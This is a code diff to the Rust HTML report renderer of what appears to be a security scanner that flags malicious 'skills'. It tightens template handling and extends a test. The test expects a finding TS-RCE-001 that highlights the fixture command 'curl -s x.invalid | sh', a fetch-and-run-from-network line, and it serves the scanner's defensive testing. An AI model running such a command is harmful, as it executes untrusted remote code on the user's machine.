@@ -3,7 +3,7 @@
 
 use crate::phrases::Phrase;
 use crate::{FindingView, Options, Render, View};
-use minijinja::{Environment, Value, context, escape_formatter};
+use minijinja::{Environment, UndefinedBehavior, Value, context, escape_formatter};
 use model::{Confidence, Engine, Excerpt, Lang, RiskLevel, Severity, Summary, visible};
 use std::io::{self, Write};
 
@@ -45,7 +45,7 @@ impl Render for Renderer {
         self.index.push(context! {
             number, linked, path => view.path, level => verdict.risk_level.id(),
             level_name => level_name(verdict.risk_level, view.lang), score => verdict.security_score,
-            top => view.findings.first().map(|shown| shown.title), complete => view.complete(),
+            top => view.findings.first().map_or("", |shown| shown.title), complete => view.complete(),
         });
         if linked {
             let section = self.render("unit.html", unit(view, number))?;
@@ -79,6 +79,7 @@ impl Renderer {
 
 fn environment() -> Environment<'static> {
     let mut environment = Environment::new();
+    environment.set_undefined_behavior(UndefinedBehavior::Strict);
     environment.set_formatter(|out, state, value| match value.as_str() {
         Some(text) if !value.is_safe() => escape_formatter(out, state, &Value::from(visible(text).as_ref())),
         _ => escape_formatter(out, state, value),
@@ -221,11 +222,12 @@ fn engine(engine: Engine, lang: Lang) -> &'static str {
 
 /// The fixed words of the page, by name.
 fn words(lang: Lang) -> Value {
-    Phrase::ALL.iter().map(|phrase| (phrase.key(), phrase.get(lang))).collect()
+    Value::from_pairs(Phrase::ALL.iter().map(|phrase| (phrase.key(), phrase.get(lang))))
 }
 
 #[cfg(test)]
 mod tests {
+    use crate::phrases::Phrase;
     use crate::sample::{HOSTILE, render, scan};
     use crate::{Format, Options};
     use model::Lang;
@@ -234,9 +236,16 @@ mod tests {
     fn the_page_is_complete_and_self_contained() {
         for (lang, word) in [(Lang::En, "Malicious"), (Lang::Zh, "恶意")] {
             let page = render(Format::Html, "skills/x", &scan(), &Options { lang, ..Options::default() });
-            for part in
-                ["<!doctype html>", "</html>", word, "TS-RCE-001", "<mark>curl -s x.invalid | sh</mark>", "setup.sh:12"]
-            {
+            for part in [
+                "<!doctype html>",
+                "</html>",
+                word,
+                "TS-RCE-001",
+                "<mark>curl -s x.invalid | sh</mark>",
+                "setup.sh:12",
+                Phrase::Footnote.get(lang),
+                Phrase::First.get(lang),
+            ] {
                 assert!(page.contains(part), "{part}");
             }
             for outside in ["<script", "<link", "<img", "@import", "url(", "src="] {
